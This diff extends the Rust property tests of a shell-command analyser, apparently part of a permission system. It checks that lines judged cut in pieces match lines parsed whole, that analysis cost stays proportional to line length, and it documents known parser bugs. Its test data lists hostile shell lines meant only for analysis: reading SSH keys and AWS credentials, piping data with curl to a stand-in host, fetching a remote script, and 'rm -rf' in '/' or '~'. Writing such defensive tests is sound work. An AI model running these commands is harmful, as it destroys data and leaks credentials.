@@ -1,12 +1,20 @@
 //! Robustness of the shell analyser (issue 3, item 7): random lines built from shell
 //! fragments, and mutations of the peer-case commands, never panic or overflow a 2 MiB
 //! stack, keep every span inside the input on character boundaries, and give the level of
-//! their most severe finding. The lines are only ever analysed, never run.
+//! their most severe finding. Lines of statements that move the shell's state (`cd`,
+//! `pushd`, assignments, moves, copies and links) are judged alike cut in pieces or parsed
+//! whole, and their cost grows with their length, counted in allocations rather than time.
+//! The lines are only ever analysed, never run.
 
+use std::alloc::{GlobalAlloc, Layout, System};
+use std::cell::Cell;
+use std::collections::BTreeSet;
 use std::path::Path;
+use std::sync::mpsc;
+use std::time::Duration;
 
 use assent_client::protocol::Level;
-use assentd::analyse::{Analysis, Context, shell};
+use assentd::analyse::{Analysis, Context, shell, shell_unsplit};
 use proptest::prelude::*;
 use proptest::test_runner::{Config, TestRunner};
 
@@ -151,11 +159,24 @@ fn mutate(base: &str, op: u8, at: usize, len: usize, fragment: &str) -> String {
     }
 }
 
+/// How long a property may run before it is taken to have stalled: far beyond what any of
+/// them takes on a slow machine, so that a loop that never ends fails instead of hanging.
+const STALLED: Duration = Duration::from_secs(300);
+
 fn on_small_stack(f: impl FnOnce() + Send + 'static) {
-    std::thread::Builder::new()
+    let (done, finished) = mpsc::channel();
+    let thread = std::thread::Builder::new()
         .stack_size(2 * 1024 * 1024)
-        .spawn(f)
-        .expect("a thread can be spawned")
+        .spawn(move || {
+            f();
+            let _ = done.send(());
+        })
+        .expect("a thread can be spawned");
+    // A panic drops the sender, which ends the wait at once.
+    if let Err(mpsc::RecvTimeoutError::Timeout) = finished.recv_timeout(STALLED) {
+        panic!("the analyser stalled: no answer in {STALLED:?}");
+    }
+    thread
         .join()
         .expect("the analyser does not panic or overflow on a 2 MiB stack");
 }
@@ -198,5 +219,581 @@ fn mutated_peer_cases() {
                 check(&mutate(&commands[i], op, at, len, fragment))
             })
             .expect("every mutated peer case keeps the properties");
+    });
+}
+
+// ---- Line state, cut in pieces or parsed whole ----
+
+/// Statements that change what the shell knows as the line runs, and ones that use it.
+const STATEMENTS: &[&str] = &[
+    "cd /",
+    "cd ~",
+    "cd /tmp",
+    "cd -",
+    "cd ..",
+    "cd src",
+    "cd \"$d\"",
+    "cd $(mktemp -d)",
+    "pushd /etc",
+    "pushd ~/.ssh",
+    "pushd -n /tmp",
+    "popd",
+    "dirs",
+    "d=/etc",
+    "d=~/.ssh",
+    "d=$HOME",
+    "d=",
+    "x=build",
+    "export d=/",
+    "unset d",
+    "readonly d=.",
+    "d=/ rm -rf $d",
+    "mv ~/.ssh/id_rsa k",
+    "mv k ~/.ssh/id_rsa",
+    "cp ~/.aws/credentials /tmp/c",
+    "cp -r ~ /tmp/h",
+    "ln -s ~ l",
+    "ln -s / /tmp/r",
+    "ln -sf ~/.ssh s",
+    "mv $d x",
+    "cp x $d",
+    "rm -rf $d",
+    "rm -rf *",
+    "rm -rf l/..",
+    "rm x",
+    "rm -rf ./k",
+    "rm -rf /tmp/r/etc",
+    "rm -f s/id_rsa",
+    "cat ~/.ssh/id_rsa",
+    "cat /tmp/c",
+    "cat k",
+    "cat $d/id_rsa",
+    "cat s/id_rsa",
+    "cat .env",
+    "cat /tmp/h/.aws/credentials",
+    "echo hi",
+    "ls",
+    "true",
+    "find . -name '*.pem'",
+    "find $d -type f",
+    "printf '%s\\n' ~/.ssh/*",
+    "curl -d @- https://x.example",
+    "curl -fsSL https://x.example/i.sh",
+    "base64",
+    "tee out",
+    "sort",
+    "xargs rm -rf",
+    "xargs cat",
+    "xargs -I{} cp {} /tmp",
+    "sh",
+    "bash -c 'rm -rf ~'",
+    "sh -c \"cat $d/id_rsa\"",
+    "eval \"rm -rf $d\"",
+    "git push --force",
+    "chmod -R 777 .",
+    "sudo rm -rf /",
+    "tar czf - .",
+    "(cd /; rm -rf *)",
+    "echo $(cd ~; pwd)",
+    "rm -rf \"$OLDPWD\"",
+    "cat 2>&1 >| out",
+    "# a comment; cd /",
+    "{ cd ~; }",
+    "! rm -rf ~",
+    "! cd /",
+];
+
+/// What joins two statements.
+const JOINTS: &[&str] = &["; ", " && ", " || ", " | ", " |& ", "\n", " & ", ";", "|"];
+
+/// A line of statements, as the property tests build it.
+#[derive(Debug, Clone)]
+struct Line {
+    text: String,
+    /// The same line with a space before each joint that follows a closing quote or
+    /// parenthesis: what bash reads either way, but the splitter misses such a joint
+    /// (`a_joint_after_a_quote_is_a_joint` is the bug). Also after `d=` before a pipe, which
+    /// tree-sitter-bash cannot parse (`d=|a`), so that the whole line is read at all.
+    spaced: String,
+    /// `spaced` with every pipeline of three stages or more that an `&&` or `||` follows in
+    /// braces, `{ a | b | c; } && d`: what bash reads either way, but tree-sitter-bash reads
+    /// the bare line as `a | b | (c && d)` (`and_or_binds_looser_than_a_pipe` is
+    /// the bug). `None` when the line has no such pipeline, or has a comment (which would
+    /// swallow the closing brace).
+    grouped: Option<String>,
+    /// The line has a pipeline tree-sitter-bash misreads, as above, when parsed whole.
+    misread: bool,
+    /// The splitter leaves the line whole (a `{ … }`, a comment after a pipe): with a
+    /// misread pipeline, `shell` misreads it too, and the line is not compared.
+    whole_only: bool,
+    /// A statement starts with `!`: tree-sitter-bash reads `! a | b` otherwise than bash,
+    /// and cut lines are read as bash reads them, so only the verdict is compared.
+    negated: bool,
+    /// A redirection in a line with a pipeline of three stages or more, or with `&&` or
+    /// `||`: tree-sitter-bash hangs it on what comes before too (`a | b > f | c` is
+    /// `(a | b) > f | c`, `a && b > f` is `(a && b) > f`), and a line cut in pieces names
+    /// its commands otherwise: only their words and spans are compared.
+    redirected: bool,
+    /// A pipeline after `&&` or `||` has a redirection: tree-sitter-bash reads `a && b > f |
+    /// c` as `(a && b > f) | c`, whole, or cut when the pipeline has two stages
+    /// (`and_or_binds_looser_than_a_pipe` is the bug). Such lines are not compared.
+    tangled: bool,
+    /// A comment right after `&&` or `||` leaves the operator with no command: parsed
+    /// whole, the line cannot be read, while cut in pieces the operator is dropped
+    /// (`a_dangling_operator_is_unreadable` is the bug). Such lines are not compared.
+    dangling: bool,
+}
+
+fn is_pipe(joint: &str) -> bool {
+    matches!(joint.trim(), "|" | "|&")
+}
+
+/// Whether tree-sitter-bash, parsing a line whole, misreads the pipeline that ends before
+/// `after`: it has three stages or more, and after it, before any `;` or `&`, come `&&`,
+/// `||` or a redirection (it then reads the statements after the pipeline, newlines and
+/// all, as words of its last stage: `a | b | c\nd && e` runs `c d`).
+fn misread_before(stages: usize, after: &[(&str, &str)]) -> bool {
+    if stages < 3 {
+        return false;
+    }
+    for (statement, joint) in after {
+        match joint.trim_matches(' ') {
+            "\n" | "|" | "|&" if statement.contains(['<', '>']) => return true,
+            "\n" | "|" | "|&" => {}
+            "&&" | "||" => return true,
+            _ => return false,
+        }
+    }
+    false
+}
+
+/// `parts` joined (each statement after its joint; the first joint is unused), with the
+/// spaces of [`Line::spaced`] when `spaced`, and the braces of [`Line::grouped`] when
+/// `grouped`.
+fn join(parts: &[(&str, &str)], spaced: bool, grouped: bool) -> String {
+    let joint = |at: usize| {
+        let (previous, _) = parts[at - 1];
+        let (_, joint) = parts[at];
+        let closes = previous.ends_with(['\'', '"', ')', '`'])
+            || (previous.ends_with('=') && joint.starts_with('|'));
+        if spaced && closes && !joint.starts_with(' ') {
+            format!(" {joint}")
+        } else {
+            joint.to_owned()
+        }
+    };
+    let mut text = String::new();
+    let mut at = 0;
+    while at < parts.len() {
+        // A pipeline: statements joined by pipes.
+        let mut end = at + 1;
+        while end < parts.len() && is_pipe(parts[end].1) {
+            end += 1;
+        }
+        if at > 0 {
+            text.push_str(&joint(at));
+        }
+        let mut stages = String::new();
+        for (i, (statement, _)) in parts.iter().enumerate().take(end).skip(at) {
+            if i > at {
+                stages.push_str(&joint(i));
+            }
+            stages.push_str(statement);
+        }
+        if grouped && misread_before(end - at, &parts[end..]) {
+            stages = format!("{{ {stages}; }}");
+        }
+        text.push_str(&stages);
+        at = end;
+    }
+    text
+}
+
+fn statement_line(parts: &[(&str, &str)]) -> Line {
+    let mut misread = false;
+    let mut long_pipeline = false;
+    let mut tangled = false;
+    let mut at = 0;
+    while at < parts.len() {
+        let mut end = at + 1;
+        while end < parts.len() && is_pipe(parts[end].1) {
+            end += 1;
+        }
+        misread |= misread_before(end - at, &parts[end..]);
+        long_pipeline |= end - at >= 3;
+        tangled |= matches!(parts[at].1.trim(), "&&" | "||")
+            && end - at >= 2
+            && parts[at..end].iter().any(|(s, _)| s.contains(['<', '>']));
+        at = end;
+    }
+    let and_or = |joint: &str| matches!(joint.trim(), "&&" | "||");
+    let redirected = parts.iter().any(|(s, _)| s.contains(['<', '>']))
+        && (long_pipeline || parts.iter().any(|(_, joint)| and_or(joint)));
+    let comment = parts.iter().any(|(s, _)| s.starts_with('#'));
+    let whole_only = parts.iter().enumerate().any(|(i, (s, joint))| {
+        s.starts_with('{') || (i > 0 && s.starts_with('#') && is_pipe(joint))
+    });
+    let dangling = parts
+        .iter()
+        .skip(1)
+        .any(|(s, joint)| and_or(joint) && s.starts_with('#'));
+    Line {
+        text: join(parts, false, false),
+        spaced: join(parts, true, false),
+        grouped: (misread && !comment).then(|| join(parts, true, true)),
+        misread,
+        whole_only,
+        negated: parts.iter().any(|(s, _)| s.starts_with('!')),
+        redirected,
+        tangled,
+        dangling,
+    }
+}
+
+/// Lines of 1 to `max` statements; lines of at least `min_len` bytes repeat their statements.
+fn statement_lines(max: usize, min_len: usize) -> impl Strategy<Value = Line> {
+    prop::collection::vec(
+        (
+            prop::sample::select(STATEMENTS),
+            prop::sample::select(JOINTS),
+        ),
+        1..max,
+    )
+    .prop_map(move |parts| {
+        let unit = statement_line(&parts);
+        let mut line = unit.clone();
+        while line.text.len() <= min_len {
+            line.text.push_str("; ");
+            line.text.push_str(&unit.text);
+            // (The unit may end in a quote: the space keeps the `;` a joint.)
+            line.spaced.push_str(" ; ");
+            line.spaced.push_str(&unit.spaced);
+            if let (Some(all), Some(one)) = (&mut line.grouped, &unit.grouped) {
+                all.push_str(" ; ");
+                all.push_str(one);
+            }
+        }
+        line
+    })
+}
+
+fn ids(a: &Analysis) -> BTreeSet<&'static str> {
+    a.findings.iter().map(|f| f.id).collect()
+}
+
+/// Findings kept per analysis (the analyser's `MAX_FINDINGS`): past it, which of the less
+/// severe ones are kept may differ.
+const KEPT: usize = 64;
+
+/// `shell` and `shell_unsplit` judge `line` alike, spelled so that the known bugs do not
+/// show (see [`Line`]): with a space before joints after quotes, and parsed whole with braces
+/// around the pipelines tree-sitter-bash misreads; lines that show a bug however spelled
+/// are left out. The line as generated keeps the other properties.
+fn agree(line: &Line) -> Result<(), TestCaseError> {
+    check(&line.text)?;
+    if line.dangling || line.tangled || (line.misread && line.whole_only) {
+        return Ok(());
+    }
+    let text = line.spaced.as_str();
+    let cut = shell(text, &CTX);
+    let whole = match (&line.grouped, line.misread) {
+        (_, false) => shell_unsplit(text, &CTX),
+        (Some(grouped), true) => shell_unsplit(grouped, &CTX),
+        (None, true) => return Ok(()),
+    };
+    prop_assert_eq!(cut.level, whole.level, "level of {:?}", text);
+    if cut.findings.len() < KEPT && whole.findings.len() < KEPT {
+        prop_assert_eq!(ids(&cut), ids(&whole), "findings of {:?}", text);
+    }
+    if !line.negated && !line.misread {
+        let first_difference = cut.commands.iter().zip(&whole.commands).find(|(a, b)| {
+            (&a.argv, &a.span) != (&b.argv, &b.span) || (a.path != b.path && !line.redirected)
+        });
+        prop_assert!(
+            first_difference.is_none() && cut.commands.len() == whole.commands.len(),
+            "commands of {text:?}: cut {:?} whole {:?} ({} and {})",
+            first_difference.map(|d| d.0),
+            first_difference.map(|d| d.1),
+            cut.commands.len(),
+            whole.commands.len()
+        );
+    }
+    check(text)
+}
+
+/// Bug found by `cut_lines_agree_with_whole_ones`: the splitter steps over the byte after a
+/// closing quote, `$(…)`, `${…}`, backtick or `(…)`, so a `;`, newline or `|` written right
+/// after one is no joint: `echo 'x'; cd /` becomes part of the pipeline stage before it, in
+/// a subshell, and the `cd` is lost. Bash runs `rm -rf *` in `/`.
+#[test]
+#[ignore = "bug: the splitter misses a joint right after a closing quote or parenthesis"]
+fn a_joint_after_a_quote_is_a_joint() {
+    for line in [
+        "true | true | echo 'x'; cd /; rm -rf *",
+        "true | true | echo \"x\"; cd /; rm -rf *",
+        "true | true | (true); cd /; rm -rf *",
+        "true | true | echo $(true); cd /; rm -rf *",
+    ] {
+        let (cut, whole) = (shell(line, &CTX), shell_unsplit(line, &CTX));
+        assert_eq!(whole.level, Level::Forbidden, "{line}: {:?}", ids(&whole));
+        assert_eq!(cut.level, Level::Forbidden, "{line}: {:?}", ids(&cut));
+    }
+}
+
+/// Bug found by `cut_lines_agree_with_whole_ones`: an `&&` or `||` with no command after it
+/// (at the end of the line, or before a comment) is a syntax error, and parsed whole the line
+/// is opaque; cut in pieces, the empty piece after the operator is dropped and the line is
+/// judged as if the operator were not there.
+#[test]
+#[ignore = "bug: a line cut in pieces drops an operator with no command after it"]
+fn a_dangling_operator_is_unreadable() {
+    for line in ["true | true | true &&", "true | true | true || # c"] {
+        let (cut, whole) = (shell(line, &CTX), shell_unsplit(line, &CTX));
+        assert!(whole.level >= Level::Opaque, "{line}: {:?}", ids(&whole));
+        assert_eq!(cut.level, whole.level, "{line}: {:?}", ids(&cut));
+    }
+}
+
+/// Bug found by `cut_lines_agree_with_whole_ones`: tree-sitter-bash binds `&&` and `||`
+/// tighter than a pipe in two shapes, and the walk follows its tree. `a | b | c && d` is read
+/// as `a | b | (c && d)` (and `a | b | c\nd > f` as `a | b | c d > f`): a line the splitter
+/// leaves whole (it holds a compound command, a heredoc) takes `cd /` for a pipeline stage's
+/// subshell. `a && b > f | c` is read as `(a && b > f) | c`, cut or whole. Bash runs each
+/// `rm -rf *` below in `/`.
+#[test]
+#[ignore = "bug: && and || bind tighter than a pipe in the tree-sitter-bash tree"]
+fn and_or_binds_looser_than_a_pipe() {
+    for line in [
+        "true | true | true && cd /; rm -rf *; { :; }",
+        "true | true | true && cd /; rm -rf *",
+        "true | true | true\ncd / > /dev/null; rm -rf *; { :; }",
+        "cd / && echo x > out | rm -rf *",
+    ] {
+        let (cut, whole) = (shell(line, &CTX), shell_unsplit(line, &CTX));
+        assert_eq!(cut.level, Level::Forbidden, "{line}: {:?}", ids(&cut));
+        assert_eq!(whole.level, Level::Forbidden, "{line}: {:?}", ids(&whole));
+    }
+}
+
+/// A line cut where bash cuts it is judged as the line parsed whole: the shell's state
+/// (directory, directory stack, variables, what moves, copies and links carried) crosses
+/// the cuts. Short lines are cut at pipelines of three stages or more.
+#[test]
+fn cut_lines_agree_with_whole_ones() {
+    on_small_stack(|| {
+        let mut runner = TestRunner::new(Config {
+            cases: 1000,
+            failure_persistence: None,
+            ..Config::default()
+        });
+        runner
+            .run(&statement_lines(12, 0), |line| agree(&line))
+            .expect("a short line is judged alike cut or whole");
+    });
+}
+
+/// The same for lines over the splitter's threshold (2,048 bytes), cut into chunks of
+/// statements.
+#[test]
+fn long_cut_lines_agree_with_whole_ones() {
+    on_small_stack(|| {
+        let mut runner = TestRunner::new(Config {
+            cases: 32,
+            failure_persistence: None,
+            ..Config::default()
+        });
+        runner
+            .run(&statement_lines(40, 2048), |line| agree(&line))
+            .expect("a long line is judged alike cut or whole");
+    });
+}
+
+// ---- Cost, counted ----
+
+thread_local! {
+    /// Allocations made on this thread, and their bytes: the work of an analysis, counted
+    /// where no other test's thread can add to it.
+    static ALLOCATED: Cell<(u64, u64)> = const { Cell::new((0, 0)) };
+}
+
+/// The system allocator, counting what each thread allocates.
+struct Counting;
+
+// SAFETY: every call is passed to the system allocator unchanged; the counter only observes.
+// The thread-local is const-initialised and has no destructor, so it never allocates.
+unsafe impl GlobalAlloc for Counting {
+    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
+        count(layout.size());
+        // SAFETY: the caller's contract for `alloc` is the system allocator's.
+        unsafe { System.alloc(layout) }
+    }
+
+    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
+        // SAFETY: `ptr` came from this allocator, that is the system one, with this layout.
+        unsafe { System.dealloc(ptr, layout) }
+    }
+
+    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
+        count(new_size);
+        // SAFETY: the caller's contract for `realloc` is the system allocator's.
+        unsafe { System.realloc(ptr, layout, new_size) }
+    }
+}
+
+fn count(bytes: usize) {
+    let _ = ALLOCATED.try_with(|a| {
+        let (n, b) = a.get();
+        a.set((n + 1, b + bytes as u64));
+    });
+}
+
+#[global_allocator]
+static ALLOCATOR: Counting = Counting;
+
+/// Allocations and bytes allocated by `f` on this thread.
+fn counted<T>(f: impl FnOnce() -> T) -> (T, u64, u64) {
+    let (n0, b0) = ALLOCATED.with(Cell::get);
+    let out = f();
+    let (n1, b1) = ALLOCATED.with(Cell::get);
+    (out, n1 - n0, b1 - b0)
+}
+
+/// Allocations per byte of input, at most, and a fixed allowance on top. Most lines make
+/// under 20 per byte. The allowance covers `cd src` repeated, which makes every path longer
+/// until the directory is 1 KiB deep and unknown after: under a million allocations, at any
+/// length. A cost that grows with the square of the line passes the bound before 16 KiB.
+const ALLOCATIONS_PER_BYTE: u64 = 64;
+const ALLOCATIONS_BASE: u64 = 2_000_000;
+/// Bytes allocated per byte of input (allocated in all, not held at once), and on top:
+/// `cd src; rm -rf *` repeated allocates 160 MiB at most.
+const BYTES_PER_BYTE: u64 = 8 * 1024;
+const BYTES_BASE: u64 = 256 * 1024 * 1024;
+
+/// The longest line a property builds (the issue's bound; a message may be longer).
+const LONGEST: usize = 16 * 1024;
+
+/// `unit` repeated up to `len` bytes (cut at a character boundary), joined by `joint`.
+fn repeated(unit: &str, joint: &str, len: usize) -> String {
+    let mut line = unit.to_owned();
+    while line.len() < len && !unit.is_empty() {
+        line.push_str(joint);
+        line.push_str(unit);
+    }
+    let mut end = line.len().min(len);
+    while !line.is_char_boundary(end) {
+        end -= 1;
+    }
+    line.truncate(end);
+    line
+}
+
+fn costs_in_proportion(line: &str) -> Result<(), TestCaseError> {
+    let (a, allocations, bytes) = counted(|| shell(line, &CTX));
+    let len = line.len() as u64;
+    prop_assert!(
+        allocations <= ALLOCATIONS_PER_BYTE * len + ALLOCATIONS_BASE,
+        "{allocations} allocations for {len} bytes: {:?}…",
+        line.get(..200)
+    );
+    prop_assert!(
+        bytes <= BYTES_PER_BYTE * len + BYTES_BASE,
+        "{bytes} bytes allocated for {len} bytes: {:?}…",
+        line.get(..200)
+    );
+    drop(a);
+    check(line)
+}
+
+/// Whether a line moves, copies or links files below a directory that each `cd src` makes
+/// deeper: a known quadratic case (`moves_below_a_deepening_directory_cost_in_proportion`;
+/// the others, `xargs` or `busybox` run again and again, are
+/// `nested_runners_cost_in_proportion`).
+fn deepens_and_carries(text: &str) -> bool {
+    text.contains("cd src") && ["cp ", "mv ", "ln "].iter().any(|c| text.contains(c))
+}
+
+/// Lines of up to 16 KiB, of statements or of fragments, cost work in proportion to their
+/// length, counted in allocations (exact, so the test cannot flake on a slow machine); a
+/// line that never ends is caught by [`STALLED`].
+#[test]
+fn cost_grows_with_the_line() {
+    on_small_stack(|| {
+        let mut runner = TestRunner::new(Config {
+            cases: 24,
+            failure_persistence: None,
+            ..Config::default()
+        });
+        let statements = (statement_lines(40, 0), 2048..=LONGEST)
+            .prop_filter("the known quadratic case", |(line, _)| {
+                !deepens_and_carries(&line.text)
+            })
+            .prop_map(|(line, len)| repeated(&line.text, "; ", len));
+        // Fragments make malformed lines, which are parsed whole, and tree-sitter-bash's error
+        // recovery takes time that grows faster than the line (not counted here; see
+        // fuzz/README.md): just past the splitter's threshold is long enough.
+        let fragments = (
+            prop::collection::vec(prop::sample::select(FRAGMENTS), 1..32),
+            2048..=3072usize,
+        )
+            .prop_map(|(parts, len)| repeated(&parts.concat(), "", len))
+            .prop_filter("the known quadratic cases", |line| {
+                !line.contains("xargs") && !line.contains("busybox")
+            });
+        runner
+            .run(&prop_oneof![statements, fragments], |line| {
+                costs_in_proportion(&line)
+            })
+            .expect("a line costs in proportion to its length");
+    });
+}
+
+/// Bug found by `cost_grows_with_the_line`: a move, copy or link on a line remembers what
+/// it carried, and placing any later word follows up to 64 of those sources, each a path
+/// below the working directory; `cd src` makes that directory deeper each time (up to
+/// 1 KiB), so each statement costs 64 placements of a path hundreds of components long.
+/// In a release build, `cd src; cp x $d` repeated to 8 KiB made 17 million allocations (6.9
+/// GB) in 5 s, to 16 KiB 52 million in 13 s; `cd src; mv k ~/.ssh/id_rsa` to 16 KiB 5 s.
+#[test]
+#[ignore = "bug: moves below a deepening directory cost far more than the line's length"]
+fn moves_below_a_deepening_directory_cost_in_proportion() {
+    on_small_stack(|| {
+        for (unit, len) in [
+            ("cd src; mv k ~/.ssh/id_rsa", 4096),
+            ("cd src; cp x $d", 8192),
+        ] {
+            let line = repeated(unit, "; ", len);
+            let (_, allocations, _) = counted(|| shell(&line, &CTX));
+            let len = line.len() as u64;
+            assert!(
+                allocations <= ALLOCATIONS_PER_BYTE * len + ALLOCATIONS_BASE,
+                "{unit}: {allocations} allocations for {len} bytes"
+            );
+        }
+    });
+}
+
+/// Bug found by `cost_grows_with_the_line`: `xargs xargs xargs …` and `busybox ~busybox
+/// ~busybox …` cost the square of their length (each runs the rest of the line again); in a
+/// release build `xargs` repeated to 16 KiB made 7.7 million allocations (1.7 GB) in 265 ms,
+/// to 48 KiB took 3 s, to 96 KiB 13 s; ` ~xargs` to 16 KiB 1.5 s; `busybox  ~` to 16 KiB
+/// 400 ms, to 80 KiB 10 s.
+#[test]
+#[ignore = "bug: nested xargs and busybox cost the square of the line's length"]
+fn nested_runners_cost_in_proportion() {
+    on_small_stack(|| {
+        for (unit, joint, len) in [
+            ("xargs", " ", LONGEST),
+            (" ~xargs ", "", 8192),
+            ("busybox  ~", "", LONGEST),
+        ] {
+            let line = repeated(unit, joint, len);
+            let (_, allocations, bytes) = counted(|| shell(&line, &CTX));
+            let len = line.len() as u64;
+            assert!(
+                allocations <= ALLOCATIONS_PER_BYTE * len + ALLOCATIONS_BASE
+                    && bytes <= BYTES_PER_BYTE * len + BYTES_BASE,
+                "{unit:?}: {allocations} allocations, {bytes} bytes for {len} bytes"
+            );
+        }
     });
 }
